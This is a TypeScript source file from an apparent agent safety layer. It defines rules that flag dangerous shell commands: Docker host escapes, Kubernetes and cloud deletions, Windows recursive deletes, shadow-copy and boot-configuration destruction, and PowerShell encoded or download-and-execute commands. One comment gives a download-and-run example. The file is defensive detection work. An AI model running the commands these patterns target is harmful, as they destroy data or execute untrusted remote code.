import {
  commandBaseName,
  isSimple,
  readOptions,
  type OptionTable,
  type ResolvedCommand,
} from "@hermes-agent/shell";
import { windowsDeleteMatch } from "../windows-delete-targets.js";
import { matchOf, type CommandRule } from "../rule-context.js";
import { rule, type DangerousCommandMatch, type RuleInfo } from "../types.js";

/** Rules for containers, clusters, cloud CLIs, Windows shells and the Hermes gateway. */
export const PLATFORM_RULES: Readonly<
  Record<
    | "dockerPrune"
    | "dockerHost"
    | "k8sDelete"
    | "infraDestroy"
    | "cloudDelete"
    | "windowsDelete"
    | "windowsSystem"
    | "powershellEncoded"
    | "gateway",
    RuleInfo
  >
> = {
  dockerPrune: rule("docker-data-loss", "docker prune of all images/volumes or removal of volumes"),
  dockerHost: rule(
    "docker-host-escape",
    "container started privileged or with the host root or docker socket mounted",
  ),
  k8sDelete: rule(
    "kubectl-delete",
    "kubectl delete of namespaces, nodes, volumes or --all resources",
  ),
  infraDestroy: rule(
    "infra-destroy",
    "infrastructure teardown (terraform/pulumi destroy, helm uninstall)",
  ),
  cloudDelete: rule("cloud-delete", "cloud storage or resource deletion"),
  windowsDelete: rule(
    "windows-delete",
    "Windows recursive or forced delete (del /s, rmdir /s, Remove-Item -Recurse)",
  ),
  windowsSystem: rule(
    "windows-system",
    "Windows disk, boot, registry, shadow-copy or service destruction",
  ),
  powershellEncoded: rule(
    "powershell-encoded",
    "PowerShell encoded or downloaded command execution",
  ),
  gateway: rule(
    "hermes-gateway-stop",
    "stop/restart of the hermes gateway or update (kills running agents)",
  ),
} as const;

const WINDOWS_DELETE = /^(?:del|erase|rd|rmdir|remove-item|ri|rm)$/i;

const windowsShell: CommandRule = (cmd) => {
  const texts = cmd.args.map((word) => word.text);
  const joined = texts.join(" ");
  if (cmd.name === "powershell" || cmd.name === "pwsh") {
    if (texts.some((text) => /^-(?:e|ec|enc|encodedcommand)$/i.test(text)))
      return matchOf(PLATFORM_RULES.powershellEncoded);
    if (
      /\b(?:iex|invoke-expression)\b/i.test(joined) &&
      /\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|net\.webclient)\b/i.test(
        joined,
      )
    )
      return matchOf(PLATFORM_RULES.powershellEncoded);
    if (/\b(?:remove-item|ri|rm|rmdir|del|rd|erase)\b[^;|]*-(?:recurse|force)\b/i.test(joined))
      return windowsDeleteMatch(joined, matchOf(PLATFORM_RULES.windowsDelete));
    if (
      /\b(?:format-volume|clear-disk|stop-computer|restart-computer|remove-partition)\b/i.test(
        joined,
      )
    )
      return matchOf(PLATFORM_RULES.windowsSystem);
    if (/\b(?:stop-process|stop-service)\b[^;|]*-force\b/i.test(joined))
      return matchOf(PLATFORM_RULES.windowsSystem);
    return null;
  }
  if (cmd.name === "cmd") {
    const verb = texts.find((text, i) => i > 0 && /^\/[ck]$/i.test(texts[i - 1] ?? ""));
    if (
      verb !== undefined &&
      WINDOWS_DELETE.test(verb.split(/\s+/)[0] ?? "") &&
      /\s\/[sqf]\b|\/[sq]$/i.test(" " + texts.join(" "))
    )
      return windowsDeleteMatch(joined, matchOf(PLATFORM_RULES.windowsDelete));
    if (/\b(?:format|diskpart|vssadmin|bcdedit|wbadmin)\b/i.test(joined))
      return matchOf(PLATFORM_RULES.windowsSystem);
    return null;
  }
  if (/^(?:del|erase|rd|rmdir)$/.test(cmd.name) && texts.some((text) => /^\/[sq]$/i.test(text)))
    return windowsDeleteMatch(`${cmd.name} ${joined}`, matchOf(PLATFORM_RULES.windowsDelete));
  if (cmd.name === "remove-item" && texts.some((text) => /^-(?:recurse|force)$/i.test(text)))
    return windowsDeleteMatch(`${cmd.name} ${joined}`, matchOf(PLATFORM_RULES.windowsDelete));
  if (cmd.name === "vssadmin" && texts.some((text) => /^delete$/i.test(text)))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "wbadmin" && texts.some((text) => /^delete$/i.test(text)))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "bcdedit" && texts.some((text) => /^\/(?:set|delete|deletevalue)$/i.test(text)))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "reg" && /^delete$/i.test(texts[0] ?? ""))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "diskpart" || (cmd.name === "format" && /^[a-z]:$/i.test(texts[0] ?? "")))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "taskkill" && texts.some((text) => /^\/f$/i.test(text)))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "cipher" && texts.some((text) => /^\/w/i.test(text)))
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "icacls" && /\/grant\b.*\b(?:everyone|\*S-1-1-0)/i.test(joined))
    return matchOf(PLATFORM_RULES.windowsSystem);
  return bareCmdlet(cmd, texts);
};

const DOWNLOADERS = /^(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl|wget)$/;

/** PowerShell cmdlets run bare (a pwsh host or backend), as they are under `powershell`. */
function bareCmdlet(cmd: ResolvedCommand, texts: readonly string[]): DangerousCommandMatch | null {
  if (
    /^(?:format-volume|clear-disk|remove-partition|stop-computer|restart-computer)$/.test(cmd.name)
  )
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (
    (cmd.name === "stop-process" || cmd.name === "stop-service") &&
    texts.some((text) => /^-force$/i.test(text))
  )
    return matchOf(PLATFORM_RULES.windowsSystem);
  if (cmd.name === "iex" || cmd.name === "invoke-expression") {
    // `iwr https://x/i.ps1 | iex`: downloaded code run by Invoke-Expression.
    const fed = cmd.source.upstream.some(
      (stage) => isSimple(stage) && DOWNLOADERS.test(commandBaseName(stage.words[0]?.text ?? "")),
    );
    if (fed) return matchOf(PLATFORM_RULES.powershellEncoded);
  }
  return null;
}

const HERMES_OPTIONS: OptionTable = {
  shortWithValue: "pmt",
  longWithValue: ["profile", "model", "toolsets", "provider", "resume", "config"],
};

const hermes: CommandRule = (cmd) => {
  const words = readOptions(cmd.args, HERMES_OPTIONS).operands.map((word) => word.text);
  for (let i = 0; i < words.length; i++)
    if (words[i] === "gateway" && /^(?:stop|restart)$/.test(words[i + 1] ?? ""))
      return matchOf(PLATFORM_RULES.gateway);
  if (words[0] === "update") return matchOf(PLATFORM_RULES.gateway);
  return null;
};

const BY_NAME: ReadonlyMap<string, CommandRule> = new Map<string, CommandRule>([
  ["hermes", hermes],
  ...[
    "powershell",
    "pwsh",
    "cmd",
    "del",
    "erase",
    "rd",
    "rmdir",
    "remove-item",
    "vssadmin",
    "wbadmin",
    "bcdedit",
    "reg",
    "diskpart",
    "format",
    "taskkill",
    "cipher",
    "icacls",
    "format-volume",
    "clear-disk",
    "remove-partition",
    "stop-computer",
    "restart-computer",
    "stop-process",
    "stop-service",
    "iex",
    "invoke-expression",
  ].map((name): [string, CommandRule] => [name, windowsShell]),
]);

/** Platform rules dispatched by command name. */
export const platformRules: CommandRule = (cmd, ctx) => BY_NAME.get(cmd.name)?.(cmd, ctx) ?? null;
